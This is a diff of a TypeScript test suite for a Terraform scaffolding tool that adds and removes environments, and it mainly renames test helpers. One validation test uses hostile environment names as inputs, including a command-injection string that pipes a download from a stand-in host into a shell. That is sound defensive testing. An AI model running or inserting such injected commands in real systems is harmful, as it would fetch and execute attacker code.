@@ -1,14 +1,14 @@
 import assert from 'node:assert/strict';
-import { githubPipeline } from '../../../../server/scaffold/pipeline/githubPipeline';
+import { githubPipelineText } from '../../../../server/scaffold/pipeline/githubPipeline';
 import { effective } from '../../../support/scaffold/effective';
-import { samplePlatform } from '../../../support/scaffold/platformFiles';
-import { refused, scaffolded } from '../../../support/scaffold/scaffolded';
+import { readSamplePlatform } from '../../../support/scaffold/platformFiles';
+import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded';
 
 const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
 
 for (const name of platforms) {
   describe(`an environment of ${name}`, () => {
-    const before = samplePlatform(name);
+    const before = readSamplePlatform(name);
 
     it('is added everywhere, inherits everything, and changes no other', async () => {
       const known = await effective(before);
@@ -24,7 +24,7 @@ for (const name of platforms) {
     it('is added once', async () => {
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       assert.match(
-        (await refused(texts, 'environment', { env: 'apps-dev' })).join('\n'),
+        (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
         /^env: There is an environment apps-dev/,
       );
     });
@@ -62,7 +62,7 @@ for (const name of platforms) {
 
 for (const name of ['minimal', 'released']) {
   describe(`the conversion of ${name} to three environments`, () => {
-    const before = samplePlatform(name);
+    const before = readSamplePlatform(name);
 
     it('leaves what the two have, and gives the third what the base had', async () => {
       const known = await effective(before);
@@ -88,7 +88,7 @@ for (const name of ['minimal', 'released']) {
     it('is not offered twice', async () => {
       const { texts } = await scaffolded(before, 'threeEnvironments', {});
       assert.match(
-        (await refused(texts, 'threeEnvironments', {})).join('\n'),
+        (await answerProblems(texts, 'threeEnvironments', {})).join('\n'),
         /^uri: This platform has 3 environments/,
       );
     });
@@ -99,14 +99,14 @@ describe('environments', () => {
   for (const name of ['three-environments', 'multi-cloud'])
     it(`reaches modules of ${name} that nothing binds any more`, async () => {
       const feature = name === 'multi-cloud' ? 'cert_manager' : 'metrics_server';
-      const { texts: unbound } = await scaffolded(samplePlatform(name), 'removeService', { feature });
+      const { texts: unbound } = await scaffolded(readSamplePlatform(name), 'removeService', { feature });
       const { texts, changed } = await scaffolded(unbound, 'environment', { env: 'edge' });
       assert.ok(changed.includes(`modules/${feature}/main.tf`));
       assert.match(texts[`modules/${feature}/main.tf`]!, /^ {4}edge = \{\}\n/m);
     });
 
   it('stand where they are wanted, with what they override', async () => {
-    const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', {
+    const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', {
       env: 'edge',
       position: 1,
       overrides: { 'eks_web0_eu-central-1': { cluster_version: '1.30' } },
@@ -117,7 +117,7 @@ describe('environments', () => {
   });
 
   it('keep the line ends of their files', async () => {
-    const before = samplePlatform('minimal');
+    const before = readSamplePlatform('minimal');
     const path = 'eks_web0_eu-central-1_cluster.tf';
     before[path] = before[path]!.replaceAll('\n', '\r\n');
     const { texts } = await scaffolded(before, 'environment', { env: 'edge' });
@@ -127,7 +127,7 @@ describe('environments', () => {
   });
 
   it('are added to the values that a variable takes, where the platform keeps them there', async () => {
-    const before = samplePlatform('legacy');
+    const before = readSamplePlatform('legacy');
     const { texts, changed } = await scaffolded(before, 'environment', { env: 'apps-dev' });
     assert.deepEqual(changed, ['config.auto.tfvars']);
     assert.match(texts['config.auto.tfvars'] ?? '', /apps-dev = \{\}/);
@@ -135,7 +135,7 @@ describe('environments', () => {
 
   it('override what was asked for in one cluster only, also where one value holds all of them', async () => {
     const overrides = { eks_zero: { cluster_max_size: '5' } };
-    const { texts } = await scaffolded(samplePlatform('legacy'), 'environment', { env: 'apps-dev', overrides });
+    const { texts } = await scaffolded(readSamplePlatform('legacy'), 'environment', { env: 'apps-dev', overrides });
     const [eks, gke] = (texts['config.auto.tfvars'] ?? '').split('gke_zero');
     assert.match(eks ?? '', /apps-dev = \{\n\s+cluster_max_size = "5"/);
     assert.match(gke ?? '', /apps-dev = \{\}/);
@@ -145,15 +145,15 @@ describe('environments', () => {
     const facts = { mainBranch: 'trunk', providers: ['aws' as const], program: 'terraform' as const };
     const path = '.github/workflows/main.yaml';
     const before = {
-      ...samplePlatform('minimal'),
-      [path]: githubPipeline({ ...facts, environments: ['ops', 'apps'] }),
+      ...readSamplePlatform('minimal'),
+      [path]: githubPipelineText({ ...facts, environments: ['ops', 'apps'] }),
     };
     const { texts } = await scaffolded(before, 'threeEnvironments', {});
-    assert.equal(texts[path], githubPipeline({ ...facts, environments: ['ops', 'apps', 'apps-prod'] }));
+    assert.equal(texts[path], githubPipelineText({ ...facts, environments: ['ops', 'apps', 'apps-prod'] }));
   });
 
   it('leave a pipeline alone that is not ours, and say so', async () => {
-    const before = { ...samplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
+    const before = { ...readSamplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
     const { texts, notes } = await scaffolded(before, 'environment', { env: 'edge' });
     assert.equal(texts['.gitlab-ci.yml'], before['.gitlab-ci.yml']);
     assert.match(notes.join('\n'), /\.gitlab-ci\.yml differs from[\s\S]*ops, edge, apps/);
@@ -174,12 +174,12 @@ describe('environments', () => {
     ['threeEnvironments', { base: 'apps' }, /^base: There is an environment apps/],
   ] as const) {
     it(`refuse ${kind} with ${JSON.stringify(answers)}`, async () => {
-      assert.match((await refused(samplePlatform('minimal'), kind, answers)).join('\n'), problem);
+      assert.match((await answerProblems(readSamplePlatform('minimal'), kind, answers)).join('\n'), problem);
     });
   }
 
   it('end up in no command when they can’t be workspaces', async () => {
-    const before = samplePlatform('minimal');
+    const before = readSamplePlatform('minimal');
     for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
       const texts = Object.fromEntries(
         Object.entries(before).map(([path, text]) => [path, text.replace(/\bops = \{/, `${JSON.stringify(name)} = {`)]),
@@ -191,17 +191,17 @@ describe('environments', () => {
         ['renameEnvironment', { env: name, to: 'ops' }],
       ] as const)
         assert.match(
-          (await refused(texts, kind, answers)).join('\n'),
+          (await answerProblems(texts, kind, answers)).join('\n'),
           /^uri: The environment ".*" can't be a Terraform workspace/,
         );
     }
   });
 
   it('are confirmed by name before they go', async () => {
-    const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', { env: 'edge' });
+    const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', { env: 'edge' });
     for (const confirm of [undefined, 'ops'])
       assert.match(
-        (await refused(texts, 'removeEnvironment', { env: 'edge', confirm, workspace_empty: true })).join('\n'),
+        (await answerProblems(texts, 'removeEnvironment', { env: 'edge', confirm, workspace_empty: true })).join('\n'),
         /^confirm: /,
       );
   });
